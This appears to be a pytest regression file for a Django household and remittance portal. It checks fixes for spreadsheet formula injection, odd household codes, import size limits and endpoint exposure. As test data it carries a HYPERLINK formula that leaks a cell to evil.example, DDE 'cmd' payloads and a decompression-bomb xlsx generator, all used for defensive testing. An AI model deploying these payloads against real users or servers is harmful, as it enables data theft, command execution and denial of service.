"""Issue 13's holes, one test each that failed on the code before the fix."""

import csv
import importlib
import io
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.urls import clear_url_caches, reverse
from django.utils import timezone

from households.models import Household, Member
from households.services import household_create
from households.spreadsheets import FileError, read_rows, to_csv, to_xlsx
from mha_portal.exports import csv_writer, safe_cell
from remittances import services
from tests.households.factories import make_household
from tests.remittances.factories import make_household as make_member_household
from tests.remittances.factories import make_rates

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


# ---------------------------------------------------------------- 1. formula injection

@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Раҳимов") == "Раҳимов"
    assert safe_cell(-5) == -5


def test_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerow([EVIL, "ok", 3])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + EVIL, "ok", "3"]


def test_member_named_like_a_formula_is_text_in_the_household_xlsx_export(world, client_for):
    make_household(world.staff_a, world.village_a, head=(EVIL, "Ҷамшед"))
    response = client_for(world.staff_a).get(reverse("households:export", kwargs={"fmt": "xlsx"}),
                                             {"purpose": "visit list"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_member_named_like_a_formula_is_neutralised_in_the_household_csv_and_reads_back(world, client_for):
    make_household(world.staff_a, world.village_a, head=(EVIL, "Ҷамшед"), phone="+992 93 123 45 67")
    response = client_for(world.staff_a).get(reverse("households:export", kwargs={"fmt": "csv"}),
                                             {"purpose": "visit list"})
    text = response.content.decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text
    rows = read_rows(io.BytesIO(response.content), "households.csv")
    assert rows[0]["last_name"] == EVIL and rows[0]["household_phone"] == "+992 93 123 45 67"


def test_ledger_csv_neutralises_a_formula_in_a_note(world, client_for):
    make_rates()
    payer = make_member_household(world.village_a, member_of=world.association_a)
    services.contribution_post(
        user=world.treasurer_a, association=world.association_a, fund=services.general_fund(world.association_a),
        payer=payer, amount="100", currency="TJS", entry_date=timezone.localdate(), channel="cash",
        note="@SUM(1+1)*cmd|' /C calc'!A0", idempotency_key="formula-note")
    response = client_for(world.treasurer_a).get(
        reverse("remittances:entries", args=[world.association_a.pk]), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][-1].startswith("'@SUM")


def test_report_annex_writes_a_title_typed_by_staff_as_text():
    from reports.kinds import write_sheet

    workbook = openpyxl.Workbook()
    write_sheet(workbook, "Projects", ["Title"], [["=cmd|' /C calc'!A0"]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["Projects"]["A2"]
    assert cell.data_type == "s"


# ---------------------------------------------------------------- 2. household codes

HEAD = {"last_name": "Раҳимов", "first_name": "Ҷамшед", "sex": Member.Sex.MALE, "birth_year": 1975,
        "relation": Member.Relation.HEAD}


def test_an_odd_code_is_refused_and_cannot_break_later_registrations(world):
    from django.core.exceptions import ValidationError

    prefix = f"HH{world.jamoat_a.pk:03d}-"
    with pytest.raises(ValidationError):
        household_create(user=world.staff_a, village=world.village_a, members=[HEAD], code=prefix + "³")
    # Even if one got in (an old row, the admin), the generator skips it.
    Household.objects.create(code=prefix + "³", village=world.village_a)
    Household.objects.create(code=prefix + "٣", village=world.village_a)
    first = household_create(user=world.staff_a, village=world.village_a, members=[HEAD])
    second = household_create(user=world.staff_a, village=world.village_a, members=[dict(HEAD)])
    assert first.code == prefix + "00001"
    assert second.code == prefix + "00002"


def test_the_api_refuses_an_odd_code_with_400(world, api_for):
    response = api_for(world.staff_a).post("/api/v1/households/", {
        "village": world.village_a.pk, "code": "HH001-³", "members": [HEAD]}, format="json")
    assert response.status_code == 400


# ---------------------------------------------------------------- 4. import limits

def _million_row_xlsx() -> bytes:
    rows = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1_000_000
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>")
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
        '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
        'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
        'name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def test_a_million_row_workbook_is_refused_within_seconds_and_50_mb():
    data = _million_row_xlsx()
    assert len(data) < 1_000_000  # a small upload that unpacks to a million rows
    started = time.monotonic()
    with pytest.raises(FileError, match="more than"):
        read_rows(io.BytesIO(data), "bomb.xlsx")
    elapsed = time.monotonic() - started
    # Memory measured on a second run: tracemalloc slows Python down several times.
    tracemalloc.start()
    try:
        with pytest.raises(FileError, match="more than"):
            read_rows(io.BytesIO(data), "bomb.xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 10, elapsed
    assert peak < 50 * 1024 * 1024, peak


def test_a_huge_cell_is_refused_while_reading():
    from households.spreadsheets import COLUMN_NAMES

    data = to_csv([["x" * 5000] + [""] * (len(COLUMN_NAMES) - 1)])
    with pytest.raises(FileError, match="characters"):
        read_rows(io.BytesIO(data), "big.csv")


def test_an_export_still_reads_back_through_the_limits(world):
    make_household(world.staff_a, world.village_a)
    from households.spreadsheets import export_rows

    rows = export_rows(Household.objects.all())
    assert len(read_rows(io.BytesIO(to_xlsx(rows)), "h.xlsx")) == len(rows)


# ---------------------------------------------------------------- 5. generated files

def test_report_files_are_not_served_from_media_even_with_debug(world, client, settings):
    import mha_portal.urls

    folder = settings.MEDIA_ROOT / "reports"
    folder.mkdir(parents=True)
    (folder / "report-1.pdf").write_bytes(b"%PDF-1.4 secret")
    settings.DEBUG = True
    try:
        importlib.reload(mha_portal.urls)
        clear_url_caches()
        response = client.get("/media/reports/report-1.pdf")
        assert response.status_code == 404
    finally:
        settings.DEBUG = False
        importlib.reload(mha_portal.urls)
        clear_url_caches()


# ---------------------------------------------------------------- 9. schema, docs, healthz

@pytest.mark.parametrize("url", ["/api/schema/", "/api/docs/", "/api/redoc/"])
def test_schema_and_docs_need_a_signed_in_user(world, client, url):
    assert client.get(url).status_code in (401, 403)
    client.force_login(world.staff_a)
    assert client.get(url).status_code == 200


def test_healthz_gives_details_only_to_administrators_or_localhost(world, client):
    remote = client.get("/healthz", REMOTE_ADDR="203.0.113.7")
    assert set(remote.json()) == {"status"}
    assert "engine" not in remote.text and "postgres" not in remote.text
    proxied = client.get("/healthz", HTTP_X_FORWARDED_FOR="203.0.113.7")
    assert set(proxied.json()) == {"status"}
    client.force_login(world.admin)
    assert "checks" in client.get("/healthz", REMOTE_ADDR="203.0.113.7").json()
    client.force_login(world.staff_a)
    assert "checks" not in client.get("/healthz", REMOTE_ADDR="203.0.113.7").json()
    client.logout()
    assert "checks" in client.get("/healthz").json()  # the test client is 127.0.0.1


def _import_row(**values):
    from households.spreadsheets import COLUMN_NAMES

    base = {"household_code": "", "jamoat": "Askalon", "village": "Dehqonobod", "status": "active",
            "last_name": "Раҳимов", "first_name": "Ҷамшед", "sex": "M", "birth_year": "1980", "relation": "head"}
    base.update(values)
    return [base.get(column, "") for column in COLUMN_NAMES]


def test_import_without_codes_generates_them_in_the_jamoat_series(world):
    from households.spreadsheets import commit_import

    Household.objects.create(code=f"HH{world.jamoat_a.pk:03d}-³", village=world.village_a)
    rows = read_rows(io.BytesIO(to_csv([
        _import_row(), _import_row(first_name="Зӯҳра", sex="F", relation="spouse", birth_year="1984"),
        _import_row(last_name="Каримов", first_name="Алишер")])), "h.csv")
    plan = commit_import(user=world.staff_a, rows=rows)
    assert plan.ok, [str(error) for error in plan.errors]
    prefix = f"HH{world.jamoat_a.pk:03d}-"
    created = {h.code: h.members.count() for h in Household.objects.filter(code__startswith=prefix + "0")}
    assert created == {prefix + "00001": 2, prefix + "00002": 1}


def test_import_refuses_an_odd_new_code(world):
    from households.spreadsheets import plan_import

    rows = read_rows(io.BytesIO(to_csv([_import_row(household_code="HH001-³")])), "h.csv")
    plan = plan_import(user=world.staff_a, rows=rows)
    assert [error.column for error in plan.errors] == ["household_code"]
